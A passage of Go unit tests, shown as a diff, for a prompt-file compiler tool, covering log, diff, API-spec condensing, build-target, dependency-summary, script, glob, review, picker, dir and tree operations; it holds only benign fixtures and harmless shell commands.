+	if err := os.WriteFile(logFile, []byte(log), 0644); err != nil {
+		t.Fatalf("Failed to write log: %v", err)
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(spec string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - log: "+spec+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	}
+
+	tests := []struct {
+		spec     string
+		expected string
+	}{
+		{`{file: app.log}`, log},
+		{`{file: app.log, tail: 2}`, "2024-05-01T10:00:03Z retrying connection\n2024-05-01T10:00:04Z connected\n"},
+		{`{file: app.log, dedup: true}`, log},
+		{`{file: app.log, dedup: true, strip_timestamps: true}`, "starting\nretrying connection (×3)\nconnected\n"},
+		{`{file: app.log, tail: 3, dedup: true, strip_timestamps: true}`, "retrying connection (×2)\nconnected\n"},
+	}
+	for _, tt := range tests {
+		compiled, err := compile(tt.spec)
+		if err != nil {
+			t.Fatalf("compilePromptFile(%s) failed: %v", tt.spec, err)
+		}
+		if compiled.Sections[0].Content != tt.expected {
+			t.Errorf("%s: expected %q, got %q", tt.spec, tt.expected, compiled.Sections[0].Content)
+		}
+	}
+
+	for _, line := range []string{
+		"2024/05/01 10:00:00 message",
+		"[2024-05-01 10:00:00,123] message",
+		"May  1 10:00:00 message",
+		"[10:00:00.5] message",
+		"2024-05-01T10:00:00.123+02:00 message",
+	} {
+		if stripped := logTimestampPattern.ReplaceAllString(line, ""); stripped != "message" {
+			t.Errorf("Expected the timestamp of %q stripped, got %q", line, stripped)
+		}
+	}
+
+	if _, err := compile(`{file: app.log, tail: -1}`); err == nil || !strings.Contains(err.Error(), "negative") {
+		t.Errorf("Expected a negative tail error, got %v", err)
+	}
+}
+
+func TestDiffOperation(t *testing.T) {
+	tmpDir := t.TempDir()
+	files := map[string]string{
+		"configs/prod.yml":    "replicas: 3\nimage: app:1.4\nregion: eu\n",
+		"configs/staging.yml": "replicas: 1\r\nimage: app:1.4\r\nregion: eu\r\n",
+		"configs/copy.yml":    "replicas: 3\nimage: app:1.4\nregion: eu\n",
+	}
+	for name, content := range files {
+		path := filepath.Join(tmpDir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(spec string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - diff: "+spec+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	}
+
+	compiled, err := compile(`{a: configs/prod.yml, b: configs/staging.yml}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	prod, staging := filepath.Join("configs", "prod.yml"), filepath.Join("configs", "staging.yml")
+	expected := "--- " + prod + "\n+++ " + staging + "\n@@ -1,3 +1,3 @@\n-replicas: 3\n+replicas: 1\n image: app:1.4\n region: eu\n"
+	if section := compiled.Sections[0]; section.Content != expected || section.Source != prod+".."+staging {
+		t.Errorf("Unexpected diff section %q:\n%s", section.Source, section.Content)
+	}
+
+	compiled, err = compile(`{a: configs/prod.yml, b: configs/copy.yml}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if !strings.Contains(compiled.Sections[0].Content, "are identical") {
+		t.Errorf("Expected identical files to be noted, got %q", compiled.Sections[0].Content)
+	}
+
+	// b may name a file only known once an earlier operation has run
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - command: \"echo staging\"\n    capture_as: env\n    suppress: true\n  - diff: {a: configs/prod.yml, b: \"configs/${env}.yml\"}\n"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	compiled, err = compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if section := compiled.Sections[len(compiled.Sections)-1]; section.Content != expected || section.Source != prod+".."+staging {
+		t.Errorf("Expected b to use the captured variable, got %q:\n%s", section.Source, section.Content)
+	}
+
+	// Files with little in common stay cheap to diff
+	var before, after strings.Builder
+	for i := range 20000 {
+		fmt.Fprintf(&before, "old line %d\n", i)
+		fmt.Fprintf(&after, "new line %d\n", i)
+	}
+	if diff := unifiedDiff("a", "b", before.String(), after.String()); !strings.HasPrefix(diff, "--- a\n+++ b\n@@ -1,20000 +1,20000 @@\n-old line 0\n") {
+		t.Errorf("Unexpected diff of large files:\n%.200s", diff)
+	}
+
+	if _, err := compile(`{a: configs/prod.yml}`); err == nil || !strings.Contains(err.Error(), "both a and b") {
+		t.Errorf("Expected a missing b error, got %v", err)
+	}
+	if err := os.WriteFile(promptFile, []byte("prompt:\n  - diff: {a: configs/prod.yml, b: configs/missing.yml}\n"), 0644); err != nil {
+		t.Fatalf("Failed to create prompt file: %v", err)
+	}
+	ctx, err := newCompileContext(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml"})
+	if err != nil {
+		t.Fatalf("newCompileContext failed: %v", err)
+	}
+	if err := checkPromptFile(promptFile, ctx); err == nil || !strings.Contains(err.Error(), "missing.yml") {
+		t.Errorf("Expected -check to report the missing file, got %v", err)
+	}
+}
+
+func TestCondenseAPISpecs(t *testing.T) {
+	tmpDir := t.TempDir()
+	files := map[string]string{
+		"openapi.json": `{
+  "openapi": "3.0.0",
+  "info": {"title": "Users", "version": "1.0", "x-logo": {"url": "logo.png"}},
+  "paths": {
+    "/users/{id}": {
+      "get": {
+        "summary": "Get a user by their identifier, which is assigned when the account is created",
+        "responses": {"200": {"description": "OK", "content": {"application/json": {"example": {"id": 7}}}}}
+      }
+    }
+  },
+  "components": {
+    "schemas": {
+      "User": {
+        "type": "object",
+        "properties": {
+          "id": {"type": "integer", "example": 7},
+          "example": {"type": "string", "description": "A property that happens to be called example"}
+        }
+      }
+    }
+  }
+}`,
+		"users.proto": `syntax = "proto3";
+
+package users.v1;
+
+option go_package = "example.com/users/v1";
+
+// UserService manages users. It is the only
+// way to create and update accounts.
+service UserService {
+  /* Returns one user. */
+  rpc GetUser(GetUserRequest) returns (User);
+}
+
+message User {
+  // The identifier assigned when the account was created, never reused.
+  int64 id = 1;
+  string name = 2; // display name shown in the UI
+}
+`,
+		"notes.yml": "title: not an API\n",
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(tmpDir, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(op string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - "+op+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	}
+
+	compiled, err := compile(`{file: openapi.json, condense: true, description_limit: 20}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	expected := `openapi: 3.0.0
+info:
+  title: Users
+  version: "1.0"
+paths:
+  /users/{id}:
+    get:
+      summary: Get a user by their…
+      responses:
+        "200":
+          description: OK
+          content:
+            application/json: {}
+components:
+  schemas:
+    User:
+      type: object
+      properties:
+        id:
+          type: integer
+        example:
+          type: string
+          description: A property that…
+`
+	if compiled.Sections[0].Content != expected {
+		t.Errorf("Unexpected condensed OpenAPI:\n%s\nexpected:\n%s", compiled.Sections[0].Content, expected)
+	}
+
+	compiled, err = compile(`{file: users.proto, condense: true, description_limit: 30}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	expected = `syntax = "proto3";
+package users.v1;
+// UserService manages users. It…
+service UserService {
+  // Returns one user.
+  rpc GetUser(GetUserRequest) returns (User);
+}
+message User {
+  // The identifier assigned when…
+  int64 id = 1;
+  string name = 2; // display name shown in the UI
+}
+`
+	if compiled.Sections[0].Content != expected {
+		t.Errorf("Unexpected condensed proto:\n%s\nexpected:\n%s", compiled.Sections[0].Content, expected)
+	}
+
+	if _, err := compile(`{file: notes.yml, condense: true}`); err == nil || !strings.Contains(err.Error(), "OpenAPI") {
+		t.Errorf("Expected an unsupported file error, got %v", err)
+	}
+	if _, err := compile(`{file: notes.yml, description_limit: 10}`); err == nil || !strings.Contains(err.Error(), "only with condense") {
+		t.Errorf("Expected description_limit without condense to fail, got %v", err)
+	}
+}
+
+func TestBuildTargetsOperation(t *testing.T) {
+	tmpDir := t.TempDir()
+	files := map[string]string{
+		"Makefile": `.PHONY: build test clean
+VERSION := 1.0
+LDFLAGS = -X main.version=$(VERSION)
+
+build: deps ## Build the binary
+	go build -ldflags "$(LDFLAGS)" .
+
+# Run the unit tests
+# with the race detector
+test:
+	go test -race ./...
+
+%.o: %.c
+	cc -c $<
+
+clean lint:
+	rm -f pcp
+
+define HELP
+fake: target
+endef
+`,
+		"Taskfile.yml": `version: "3"
+tasks:
+  build:
+    desc: Build the binary
+    cmds: [go build .]
+  release:
+    summary: |
+      Tag and publish a release.
+
+      Needs a clean tree.
+    cmds: [goreleaser]
+  setup:
+    internal: true
+    cmds: [go mod download]
+  fmt: gofmt -w .
+`,
+		"justfile": `set shell := ["bash", "-c"]
+
+# Serve the docs locally
+serve port="8080":
+    python -m http.server {{port}}
+
+_helper:
+    echo private
+
+[private]
+hidden:
+    echo hidden
+`,
+		"README.md": "# Not a build file\n",
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(tmpDir, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(file string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - build_targets: "+file+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	}
+
+	tests := []struct {
+		file     string
+		expected string
+	}{
+		{"Makefile", "make build  # Build the binary\nmake test   # Run the unit tests with the race detector\nmake clean\nmake lint\n"},
+		{"Taskfile.yml", "task build    # Build the binary\ntask release  # Tag and publish a release.\ntask fmt\n"},
+		{"justfile", "just serve port=\"8080\"  # Serve the docs locally\n"},
+	}
+	for _, tt := range tests {
+		compiled, err := compile(tt.file)
+		if err != nil {
+			t.Fatalf("compilePromptFile(%s) failed: %v", tt.file, err)
+		}
+		if compiled.Sections[0].Content != tt.expected {
+			t.Errorf("%s: expected %q, got %q", tt.file, tt.expected, compiled.Sections[0].Content)
+		}
+	}
+
+	if _, err := compile("README.md"); err == nil || !strings.Contains(err.Error(), "not a Makefile") {
+		t.Errorf("Expected an unsupported file error, got %v", err)
+	}
+}
+
+func TestDepsSummary(t *testing.T) {
+	tmpDir := t.TempDir()
+	files := map[string]string{
+		"go.mod": `module example.com/app
+
+go 1.22
+
+require (
+	github.com/spf13/cobra v1.8.0
+	golang.org/x/sys v0.15.0 // indirect
+)
+
+require gopkg.in/yaml.v3 v3.0.1
+
+replace example.com/lib => ../lib
+`,
+		"package.json": `{
+  "name": "web",
+  "version": "2.1.0",
+  "scripts": {"build": "vite build"},
+  "dependencies": {"react": "^18.2.0", "axios": "^1.6.0"},
+  "devDependencies": {"vite": "^5.0.0"}
+}`,
+		"requirements.txt": `#
+# This file is autogenerated by pip-compile
+#
+--index-url https://pypi.org/simple
+
+certifi==2023.11.17 \
+    --hash=sha256:e036ab49d5b79556f99cfc2d9320b34cfbe5be05c5871b51de9329f0603b0474
+    # via requests
+requests==2.31.0
+    # via -r requirements.in
+django==5.0 ; python_version >= "3.10"
+`,
+		"Cargo.toml": "[dependencies]\nserde = \"1\"\n",
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(tmpDir, name), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(file string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - file: "+file+"\n    deps_summary: true\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	}
+
+	tests := []struct {
+		file     string
+		expected string
+	}{
+		{"go.mod", "module example.com/app\ngo 1.22\n\nrequire:\n  github.com/spf13/cobra v1.8.0\n  gopkg.in/yaml.v3 v3.0.1\n\nreplace:\n  example.com/lib => ../lib\n"},
+		{"package.json", "web 2.1.0\n\ndependencies:\n  axios ^1.6.0\n  react ^18.2.0\n\ndevDependencies:\n  vite ^5.0.0\n"},
+		{"requirements.txt", "requests==2.31.0\ndjango==5.0 ; python_version >= \"3.10\"\n"},
+	}
+	for _, tt := range tests {
+		compiled, err := compile(tt.file)
+		if err != nil {
+			t.Fatalf("compilePromptFile(%s) failed: %v", tt.file, err)
+		}
+		if compiled.Sections[0].Content != tt.expected {
+			t.Errorf("%s: expected %q, got %q", tt.file, tt.expected, compiled.Sections[0].Content)
+		}
+	}
+
+	if _, err := compile("Cargo.toml"); err == nil || !strings.Contains(err.Error(), "deps_summary supports") {
+		t.Errorf("Expected an unsupported manifest error, got %v", err)
+	}
+}
+
+func TestScriptOperation(t *testing.T) {
+	tests := []struct {
+		output   string
+		expected string
+	}{
+		{"plain\r\n", "plain"},
+		{"downloading 10%\rdownloading 55%\rdownloading 100%\n", "downloading 100%"},
+		{"long progress line\r\x1b[Kdone\n", "done"},
+		{"\x1b[1;32mok\x1b[0m  pkg\n", "ok  pkg"},
+		{"abc\b\bX\n", "aXc"},
+		{"\x1b]0;title\x07text\n", "text"},
+		{"col\x1b[10Gx\n", "col      x"},
+	}
+	for _, tt := range tests {
+		if got := renderTerminal(tt.output); got != tt.expected {
+			t.Errorf("renderTerminal(%q) = %q, expected %q", tt.output, got, tt.expected)
+		}
+	}
+
+	tmpDir := t.TempDir()
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(op string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - "+op+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	}
+
+	compiled, err := compile(`script: {command: "test -t 1 && echo terminal || echo pipe"}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if compiled.Sections[0].Content != "pipe\n" {
+		t.Errorf("Expected a pipe without pty, got %q", compiled.Sections[0].Content)
+	}
+
+	if _, err := compile(`script: {command: "exit 1"}`); err == nil {
+		t.Error("Expected a script exiting 1 to fail")
+	}
+	if _, err := compile("script: {command: \"echo partial; exit 3\"}\n    ok_exit_codes: [3]"); err != nil {
+		t.Errorf("Expected ok_exit_codes to allow status 3, got %v", err)
+	}
+	if _, err := compile(`script: {command: "echo", width: 80}`); err == nil || !strings.Contains(err.Error(), "pty") {
+		t.Errorf("Expected width without pty to fail, got %v", err)
+	}
+	for _, option := range []string{"cache: content", "fallback_text: \"none\""} {
+		if _, err := compile("script: {command: \"echo\"}\n    " + option); err == nil || !strings.Contains(err.Error(), "apply only to command operations") {
+			t.Errorf("Expected %s on a script to fail, got %v", option, err)
+		}
+	}
+
+	if _, err := exec.LookPath("script"); err != nil || runtime.GOOS == "windows" {
+		t.Skip("script utility not available")
+	}
+	compiled, err = compile(`script: {command: "test -t 1 && echo terminal; printf 'step 1\\rstep 2\\n'; stty size", pty: true, width: 100}`)
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if content := compiled.Sections[0].Content; !strings.HasPrefix(content, "terminal\nstep 2\n") || !strings.Contains(content, " 100") {
+		t.Errorf("Expected terminal output rendered, got %q", content)
+	}
+}
+
+func TestFileGlobs(t *testing.T) {
+	tmpDir := t.TempDir()
+	for _, name := range []string{
+		"src/main.go", "src/main_test.go", "src/util/strings.go", "src/util/deep/x.go",
+		"src/util/notes.txt", "src/.cache/skip.go", "docs/install.md", "docs/usage.md", "docs/other.md",
+	} {
+		path := filepath.Join(tmpDir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(name+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(op string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - "+op+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	}
+	sources := func(compiled CompiledContent) string {
+		var names []string
+		for _, section := range compiled.Sections {
+			names = append(names, section.Source)
+		}
+		return strings.Join(names, " ")
+	}
+
+	tests := []struct {
+		op       string
+		expected string
+	}{
+		{`file: "src/**/*.go"`, "src/main.go src/main_test.go src/util/deep/x.go src/util/strings.go"},
+		{`file: "src/*.go"`, "src/main.go src/main_test.go"},
+		{`file: "docs/{install,usage}.md"`, "docs/install.md docs/usage.md"},
+		{`file: "src/.cache/*.go"`, "src/.cache/skip.go"},
+		{`file: "**/*.yml"`, ""},
+		{"file: \"src/m*.go\"\n    with_tests: true", "src/main.go src/main_test.go"},
+		{"file: \"src/util/**\"\n    max_words: 1", "src/util/deep/x.go src/util/notes.txt src/util/strings.go"},
+	}
+	for _, tt := range tests {
+		compiled, err := compile(tt.op)
+		if tt.expected == "" {
+			if err == nil || !strings.Contains(err.Error(), "no files match") {
+				t.Errorf("%s: expected no matches, got %v", tt.op, err)
+			}
+			continue
+		}
+		if err != nil {
+			t.Fatalf("compilePromptFile(%s) failed: %v", tt.op, err)
+		}
+		if got := sources(compiled); got != tt.expected {
+			t.Errorf("%s: expected sections %q, got %q", tt.op, tt.expected, got)
+		}
+	}
+
+	if _, err := compile("file: \"src/*.go\"\n    label: code"); err == nil || !strings.Contains(err.Error(), "glob") {
+		t.Errorf("Expected a labeled glob to fail, got %v", err)
+	}
+}
+
+func TestReviewSections(t *testing.T) {
+	sections := []ContentSection{
+		{Source: "a.txt", Content: "alpha\n", Type: FileOp},
+		{Source: "nested.yml", Type: PromptOp, Children: []ContentSection{
+			{Source: "b.txt", Content: "beta\n", Type: FileOp},
+			{Source: "c.txt", Content: "gamma\n", Type: FileOp},
+		}},
+		{Source: "echo hi", Content: "hi\n", Type: CommandOp},
+	}
+	review := func(input string) ([]ContentSection, *ProcessingContext, string, error) {
+		t.Helper()
+		ctx := NewProcessingContext(".", 1000, "xml")
+		var out strings.Builder
+		kept, err := reviewSections(sections, strings.NewReader(input), &out, ctx)
+		return kept, ctx, out.String(), err
+	}
+	sources := func(sections []ContentSection) string {
+		var names []string
+		for _, section := range sections {
+			names = append(names, section.Source)
+			for _, child := range section.Children {
+				names = append(names, "  "+child.Source)
+			}
+		}
+		return strings.Join(names, " ")
+	}
+
+	kept, ctx, out, err := review("2 4\n\n")
+	if err != nil {
+		t.Fatalf("reviewSections failed: %v", err)
+	}
+	if got := sources(kept); got != "a.txt nested.yml   c.txt" {
+		t.Errorf("Unexpected sections after review: %q", got)
+	}
+	if strings.Join(ctx.stats.Reviewed, " ") != "b.txt echo hi" {
+		t.Errorf("Expected removed sections in the stats, got %v", ctx.stats.Reviewed)
+	}
+	if !strings.Contains(out, "[x] 1  file a.txt (1 words, 6 bytes)") || !strings.Contains(out, "[ ] 2  file b.txt") {
+		t.Errorf("Unexpected review listing:\n%s", out)
+	}
+
+	kept, _, _, err = review("n\n2-3\n\n")
+	if err != nil {
+		t.Fatalf("reviewSections failed: %v", err)
+	}
+	if got := sources(kept); got != "nested.yml   b.txt   c.txt" {
+		t.Errorf("Unexpected sections after range review: %q", got)
+	}
+
+	if _, _, out, err = review("9\n\n"); err != nil || !strings.Contains(out, "between 1 and 4") {
+		t.Errorf("Expected an invalid number to be reported and asked again, got %v:\n%s", err, out)
+	}
+	if _, _, _, err := review("q\n"); !errors.Is(err, ErrReviewAborted) {
+		t.Errorf("Expected q to abort, got %v", err)
+	}
+	if _, _, _, err := review(""); !errors.Is(err, ErrReviewAborted) {
+		t.Errorf("Expected end of input to abort, got %v", err)
+	}
+}
+
+func TestDirOperation(t *testing.T) {
+	tmpDir := t.TempDir()
+	files := map[string]string{
+		"src/main.go":          "package main\n",
+		"src/README.md":        "# src\n",
+		"src/util/strings.go":  "package util\n",
+		"src/util/deep/x.go":   "package deep\n",
+		"src/.hidden/skip.go":  "package hidden\n",
+		"src/.env":             "SECRET=1\n",
+		"src/logo.png":         "\x89PNG\x00\x00",
+		"empty/only.txt":       "text\n",
+		"src/util/deep/y.json": "{}\n",
+	}
+	for name, content := range files {
+		path := filepath.Join(tmpDir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(op string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - "+op+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	}
+
+	tests := []struct {
+		op       string
+		expected string
+	}{
+		{`dir: "src"`, "src/README.md src/logo.png src/main.go src/util/deep/x.go src/util/deep/y.json src/util/strings.go"},
+		{"dir: \"src\"\n    extensions: [go]", "src/main.go src/util/deep/x.go src/util/strings.go"},
+		{"dir: \"src\"\n    extensions: [.go, .MD]\n    max_depth: 1", "src/README.md src/main.go"},
+		{"dir: \"src\"\n    max_depth: 2", "src/README.md src/logo.png src/main.go src/util/strings.go"},
+		{"dir: \"src\"\n    binary: skip", "src/README.md src/main.go src/util/deep/x.go src/util/deep/y.json src/util/strings.go"},
+	}
+	for _, tt := range tests {
+		compiled, err := compile(tt.op)
+		if err != nil {
+			t.Fatalf("compilePromptFile(%s) failed: %v", tt.op, err)
+		}
+		var sources []string
+		for _, section := range compiled.Sections {
+			sources = append(sources, section.Source)
+		}
+		if got := strings.Join(sources, " "); got != tt.expected {
+			t.Errorf("%s: expected sections %q, got %q", tt.op, tt.expected, got)
+		}
+	}
+
+	// Binary files are stubbed by default, so the reader knows they exist
+	compiled, err := compile("dir: \"src\"\n    extensions: [png]")
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	if len(compiled.Sections) != 1 || compiled.Sections[0].Content != "[binary file: src/logo.png, 6 bytes, image/png]\n" {
+		t.Errorf("Expected a stub for the binary file, got %+v", compiled.Sections)
+	}
+
+	errorTests := []struct {
+		op       string
+		expected string
+	}{
+		{"dir: \"empty\"\n    extensions: [go]", "no files found"},
+		{`dir: "missing"`, "not found"},
+		{`dir: "src/main.go"`, "not a directory"},
+		{"dir: \"src\"\n    max_depth: -1", "negative"},
+		{"file: \"src/main.go\"\n    extensions: [go]", "only to dir operations"},
+		{"dir: \"src\"\n    label: code", "cannot be labeled"},
+	}
+	for _, tt := range errorTests {
+		if _, err := compile(tt.op); err == nil || !strings.Contains(err.Error(), tt.expected) {
+			t.Errorf("%s: expected an error containing %q, got %v", tt.op, tt.expected, err)
+		}
+	}
+}
+
+func TestPickFiles(t *testing.T) {
+	files := []string{"README.md", "cmd/main.go", "internal/auth/token.go", "internal/auth/token_test.go", "docs/authentication.md"}
+
+	tests := []struct {
+		name     string
+		input    string
+		expected []string
+		err      error
+	}{
+		{"select by number", "1 3\n\n", []string{"README.md", "internal/auth/token.go"}, nil},
+		{"search then select", "token\n1-2\n\n", []string{"internal/auth/token.go", "internal/auth/token_test.go"}, nil},
+		{"selection kept across searches", "main\n1\nreadme\n1\n\n", []string{"README.md", "cmd/main.go"}, nil},
+		{"all matches", "auth\na\n\n", []string{"internal/auth/token.go", "internal/auth/token_test.go", "docs/authentication.md"}, nil},
+		{"toggle off", "a\n1\nn\n2\n\n", []string{"cmd/main.go"}, nil},
+		{"empty accept waits", "\n2\n\n", []string{"cmd/main.go"}, nil},
+		{"quit", "1\nq\n", nil, ErrPickAborted},
+		{"eof", "1\n", nil, ErrPickAborted},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var out bytes.Buffer
+			picked, err := pickFiles(files, strings.NewReader(tt.input), &out)
+			if !errors.Is(err, tt.err) {
+				t.Fatalf("expected error %v, got %v", tt.err, err)
+			}
+			if !slices.Equal(picked, tt.expected) {
+				t.Errorf("expected %v, got %v\n%s", tt.expected, picked, out.String())
+			}
+		})
+	}
+
+	matches := fuzzyMatches(files, "tok")
+	if len(matches) != 2 || matches[0] != "internal/auth/token.go" {
+		t.Errorf("expected the token files, best first, got %v", matches)
+	}
+	if got := fuzzyMatches(files, "mgo"); len(got) != 1 || got[0] != "cmd/main.go" {
+		t.Errorf("expected fuzzy match cmd/main.go, got %v", got)
+	}
+
+	tmpDir := t.TempDir()
+	for name, content := range map[string]string{"a.txt": "a\n", "sub/b.md": "b\n", ".hidden": "h\n", "img.bin": "\x00\x01"} {
+		path := filepath.Join(tmpDir, name)
+		os.MkdirAll(filepath.Dir(path), 0755)
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	candidates, err := pickCandidates(tmpDir)
+	if err != nil {
+		t.Fatalf("pickCandidates failed: %v", err)
+	}
+	if !slices.Equal(candidates, []string{"a.txt", "sub/b.md"}) {
+		t.Errorf("expected the text files, got %v", candidates)
+	}
+
+	promptFile := filepath.Join(tmpDir, "picked.yml")
+	if err := os.WriteFile(promptFile, []byte(adHocPromptFile(tmpDir, candidates)), 0644); err != nil {
+		t.Fatalf("Failed to write prompt file: %v", err)
+	}
+	compiled, err := compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	if err != nil {
+		t.Fatalf("compiling the picked prompt file failed: %v", err)
+	}
+	if len(compiled.Sections) != 2 || compiled.Sections[1].Source != "sub/b.md" {
+		t.Errorf("expected a section per picked file, got %+v", compiled.Sections)
+	}
+}
+
+func TestTreeOperation(t *testing.T) {
+	tmpDir := t.TempDir()
+	for name, content := range map[string]string{
+		"project/README.md":               "# project\n",
+		"project/cmd/pcp/main.go":         "package main\n",
+		"project/scripts/release.sh":      "#!/bin/sh\n",
+		"project/node_modules/x/index.js": "",
+		"project/docs/generated/api.md":   "",
+		"project/docs/guide.md":           "",
+		"project/debug.log":               "",
+		"project/.git/HEAD":               "ref: refs/heads/main\n",
+	} {
+		path := filepath.Join(tmpDir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatalf("Failed to create directory: %v", err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write %s: %v", name, err)
+		}
+	}
+	executable := "release.sh"
+	if runtime.GOOS != "windows" {
+		os.Chmod(filepath.Join(tmpDir, "project/scripts/release.sh"), 0755)
+		executable = "release.sh*"
+	}
+
+	promptFile := filepath.Join(tmpDir, "prompt.yml")
+	compile := func(op string) (CompiledContent, error) {
+		t.Helper()
+		if err := os.WriteFile(promptFile, []byte("prompt:\n  - "+op+"\n"), 0644); err != nil {
+			t.Fatalf("Failed to create prompt file: %v", err)
+		}
+		return compilePromptFile(Options{PromptFile: promptFile, MaxWords: 1000, DelimiterStyle: "xml", Quiet: true})
+	}
+
+	compiled, err := compile("tree: \"project\"\n    exclude: [node_modules, \"*.log\", docs/generated]")
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	expected := `project/
+├── README.md
+├── cmd/
+│   └── pcp/
+│       └── main.go
+├── docs/
+│   └── guide.md
+└── scripts/
+    └── ` + executable + `
+
+4 directories, 4 files
+`
+	if len(compiled.Sections) != 1 || compiled.Sections[0].Content != expected {
+		t.Errorf("expected tree:\n%s\ngot:\n%+v", expected, compiled.Sections)
+	}
+
+	compiled, err = compile("tree: \"project\"\n    max_depth: 1\n    exclude: [node_modules]")
+	if err != nil {
+		t.Fatalf("compilePromptFile failed: %v", err)
+	}
+	expected = "project/\n├── README.md\n├── cmd/\n├── debug.log\n├── docs/\n└── scripts/\n\n3 directories, 2 files\n"
+	if compiled.Sections[0].Content != expected {
+		t.Errorf("expected depth-limited tree:\n%s\ngot:\n%s", expected, compiled.Sections[0].Content)
+	}
+
+	errorTests := []struct {
+		op       string
+		expected string
+	}{
+		{`tree: "missing"`, "not found"},
+		{`tree: "project/README.md"`, "not a directory"},
+		{"tree: \"project\"\n    exclude: [\"[\"]", "invalid exclude pattern"},
+		{"dir: \"project\"\n    exclude: [docs]", "exclude applies only to tree operations"},
